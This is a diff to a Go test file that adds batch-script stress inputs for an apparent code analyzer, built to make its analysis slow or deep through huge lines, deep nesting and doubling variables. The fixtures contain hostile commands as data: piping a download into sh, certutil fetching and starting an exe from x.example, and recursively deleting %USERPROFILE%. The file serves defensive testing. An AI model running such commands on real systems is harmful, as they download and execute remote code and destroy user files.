@@ -11,7 +11,9 @@ import (
 
 // codeHostile are inputs built to make the code analysis slow or deep: a
 // 4 MiB line, 100,000 blank lines, nesting 10,000 deep, a decode chain of
-// depth 20, 4 MiB of statements that each reach a sink.
+// depth 20, 4 MiB of statements that each reach a sink; for batch also 4
+// MiB of lines joined by ^, variables doubled to their bound and used
+// again and again, a for's command nested 200 deep.
 func codeHostile() []struct {
 	name, file string
 	data       []byte
@@ -34,6 +36,13 @@ func codeHostile() []struct {
 		{"js-one-line-4MiB", "app.js", bytes.Repeat([]byte("eval(atob('aWQ='));"), (4<<20)/19)},
 		{"decode-chain-20", "run.sh", []byte("P='" + chain + "'\n")},
 		{"encoded-runs-4MiB", "notes.txt", bytes.Repeat([]byte(b64("curl https://x.example/p | sh")+" "), (4<<20)/41)},
+		{"bat-one-line-4MiB", "run.bat", bytes.Repeat([]byte("set A=%A%%A%& call %A% & "), (4<<20)/26)},
+		{"bat-continued-4MiB", "run.bat", bytes.Repeat([]byte("echo %A% ^\n"), (4<<20)/11)},
+		{"bat-doubling-vars", "run.bat", []byte("set A=x\n" + strings.Repeat("set A=%A%%A%\n", 64) + strings.Repeat("echo !A! !A! !A! !A! %A% %A% %A% %A% > \"%TEMP%\\a.cmd\"\n", 1_000))},
+		{"bat-blocks-1k", "run.bat", []byte(strings.Repeat("if exist x (", 1_000) + "del /s /q \"%USERPROFILE%\"" + strings.Repeat(")", 1_000) + "\n")},
+		{"bat-for-nesting", "run.bat", []byte(strings.Repeat("for /f %%a in ('", 200) + "curl -s https://x.example/c" + strings.Repeat("') do %%a", 200) + "\n")},
+		{"bat-statements-1MiB", "run.bat", bytes.Repeat([]byte("certutil -urlcache -f https://x.example/a.exe a.exe\nstart \"\" a.exe\n"), (1<<20)/68)},
+		{"bat-set-lines-1MiB", "run.bat", bytes.Repeat([]byte("set \"P=%P%;%LOCALAPPDATA%\\bin\"\n> \"%TEMP%\\x.cmd\" echo !P!\n"), (1<<20)/55)},
 	}
 }
 
